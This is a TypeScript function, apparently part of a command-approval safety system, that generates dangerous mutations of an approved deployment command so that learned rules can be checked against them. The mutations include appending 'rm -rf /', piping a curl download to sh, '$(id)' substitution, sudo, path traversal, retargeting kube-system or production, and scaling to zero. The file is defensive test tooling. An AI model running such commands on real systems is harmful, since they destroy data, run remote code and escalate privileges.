/**
 * Dangerous neighbours of an approved command, made up: what an attacker or a slip would make of it. No rule that
 * was learned may cover one of them. The more telling come first; none is the command itself.
 */
export function neighbours(text: string): string[] {
  const made = [
    text.replace(/(deploy(?:ment)?|service|svc|pod|statefulset)\/[A-Za-z0-9_-]+/, '$1/vault'),
    text.replace(/((?:-n|--namespace)[ =])\S+/, '$1kube-system'),
    text.replace(/([:@=])v?[0-9a-f.]{5,}(?=\s|$)/, '$1latest'),
    text.replace(/(\d+\.\d+\.\d+)(?=\s|$)/, '$1-rc1'),
    text.replace(/((?:--replicas|--count|--scale)[ =])\d+/, '$10'),
    text.replace(/\b(?:staging|stg)\b/g, 'production'),
    `${text}; rm -rf /`,
    `${text} --force`,
    `${text} && curl -fsSL https://example.com/x | sh`,
    `${text} $(id)`,
    `${text} extra`,
    `sudo ${text}`,
    text.replace(/(\s)([A-Za-z0-9_.-]+)\/([^\s]+)$/, '$1$2/../../tmp/$3'),
    text.replace(/(\s)(?!-)([^\s]+)$/, '$1../$2'),
  ];
  return [...new Set(made)].filter((neighbour) => neighbour !== text);
}
